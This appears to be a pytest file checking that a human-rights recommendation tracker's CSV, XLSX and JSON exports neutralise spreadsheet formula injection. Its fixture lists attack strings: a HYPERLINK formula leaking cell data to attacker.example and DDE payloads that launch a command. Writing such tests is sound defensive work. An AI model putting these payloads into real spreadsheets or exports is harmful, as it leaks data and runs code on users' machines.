"""Issue 14, formula injection in search exports: a recommendation whose text begins with
``= + - @`` must reach a spreadsheet as text, from the CLI and the API, on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import Engine
from typer.testing import CliRunner

from rightstrack.cli import app as cli
from rightstrack.domain import Recommendation, RecordKind, Response, SourceFile, SourceRef
from rightstrack.formulas import restore
from rightstrack.search.engine import SearchEngine
from rightstrack.store.writing import write_records
from rightstrack.web.app import create_app

FORMULA_TEXTS = (
    '=HYPERLINK("https://attacker.example/?leak="&A1,"Click for details")',
    "-2+3 ensure access to water",
    "+cmd|' /C calc'!A0 strengthen the NHRI",
    "@SUM(1+1)*cmd|' /C calc'!A0 protect journalists",
)
PLAIN = "Ratify the Optional Protocol to the Convention against Torture"


@pytest.fixture
def engine(store: Engine) -> SearchEngine:
    source = SourceFile("probe.csv", "upr-info-csv", "probe.csv", "0" * 64, "utf-8", 5)
    records = [
        Recommendation(
            RecordKind.RECOMMENDATION,
            "SVN",
            34,
            text,
            Response.ACCEPTED,
            1,
            recommenders=[("FRA", SourceRef("probe.csv", line))],
        )
        for line, text in enumerate((*FORMULA_TEXTS, PLAIN), start=2)
    ]
    with store.begin() as connection:
        write_records(connection, source, records, {})
    return SearchEngine(store)


@pytest.fixture
def client(engine: SearchEngine) -> Iterator[TestClient]:
    with TestClient(create_app(search=engine)) as test_client:
        yield test_client


def _csv_texts(content: str) -> list[str]:
    return [row["text"] for row in csv.DictReader(io.StringIO(content))]


def _xlsx_texts(path: Path) -> list[tuple[object, str, bool]]:
    sheet = load_workbook(path).active
    assert sheet is not None
    column = [cell.value for cell in sheet[1]].index("text") + 1
    cells = [sheet.cell(row, column) for row in range(2, sheet.max_row + 1)]
    return [(cell.value, cell.data_type, bool(cell.quotePrefix)) for cell in cells]


def _check_csv(content: str) -> None:
    texts = _csv_texts(content)
    assert sorted(texts) == sorted(["'" + t for t in FORMULA_TEXTS] + [PLAIN])
    assert sorted(restore(t) for t in texts) == sorted([*FORMULA_TEXTS, PLAIN])  # the quote comes off


def _check_xlsx(path: Path) -> None:
    cells = _xlsx_texts(path)
    assert sorted(value for value, _, _ in cells) == sorted([*FORMULA_TEXTS, PLAIN])  # text unchanged
    assert all(data_type == "s" for _, data_type, _ in cells)  # never a formula
    assert all(prefixed for value, _, prefixed in cells if value in FORMULA_TEXTS)


def test_api_exports_keep_formulas_inert(client: TestClient, tmp_path: Path) -> None:
    _check_csv(client.get("/api/v1/export.csv").text)
    workbook = tmp_path / "export.xlsx"
    workbook.write_bytes(client.get("/api/v1/export.xlsx").content)
    _check_xlsx(workbook)
    records = json.loads(client.get("/api/v1/export.json").text)["records"]
    assert sorted(r["text"] for r in records) == sorted([*FORMULA_TEXTS, PLAIN])  # JSON: as stored


def test_cli_exports_keep_formulas_inert(engine: SearchEngine, tmp_path: Path) -> None:
    url = engine.engine.url.render_as_string(hide_password=False)
    runner = CliRunner()
    for fmt in ("csv", "xlsx", "json"):
        target = tmp_path / f"export.{fmt}"
        result = runner.invoke(cli, ["--db", url, "export", "--format", fmt, "-o", str(target)])
        assert result.exit_code == 0, result.output
    _check_csv((tmp_path / "export.csv").read_text(encoding="utf-8"))
    _check_xlsx(tmp_path / "export.xlsx")
    records = json.loads((tmp_path / "export.json").read_text(encoding="utf-8"))["records"]
    assert sorted(r["text"] for r in records) == sorted([*FORMULA_TEXTS, PLAIN])


def test_cli_export_with_a_bad_query_is_a_clear_error(engine: SearchEngine) -> None:
    url = engine.engine.url.render_as_string(hide_password=False)
    result = CliRunner().invoke(cli, ["--db", url, "export", "(" * 250 + "torture"])
    assert result.exit_code != 0 and "too deeply nested" in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)
